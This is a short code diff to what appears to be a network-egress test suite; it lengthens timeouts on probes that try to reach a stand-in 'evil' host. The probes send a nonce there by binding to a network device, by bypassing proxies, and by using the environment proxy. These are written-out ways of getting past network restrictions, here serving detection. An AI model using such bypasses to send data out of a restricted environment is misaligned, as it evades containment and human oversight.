@@ -141,7 +141,7 @@ def udp_lite():
 def bound_to_device():
     "a socket bound to the cable itself"
     with socket.socket() as s:
-        s.settimeout(1)
+        s.settimeout(4)
         s.setsockopt(socket.SOL_SOCKET, 25, b"cable1\0")
         s.connect((A.evil, 80))
         s.sendall(f"{NONCE}\r\n\r\n".encode())
@@ -158,14 +158,14 @@ def by_program():
 def without_proxy():
     "a program told to use no proxy"
     import urllib.request
-    urllib.request.build_opener(urllib.request.ProxyHandler({})).open(f"http://{A.evil}/{NONCE}", timeout=1).read()
+    urllib.request.build_opener(urllib.request.ProxyHandler({})).open(f"http://{A.evil}/{NONCE}", timeout=4).read()
 
 
 @network.probe(reaches("evil"))
 def as_told_by_the_environment():
     "a polite program, by whatever proxy there is"
     import urllib.request
-    urllib.request.urlopen(f"http://{EVIL}/{NONCE}", timeout=1).read()
+    urllib.request.urlopen(f"http://{EVIL}/{NONCE}", timeout=4).read()
 
 
 # --- names as a way out -------------------------------------------------------------------------------------------
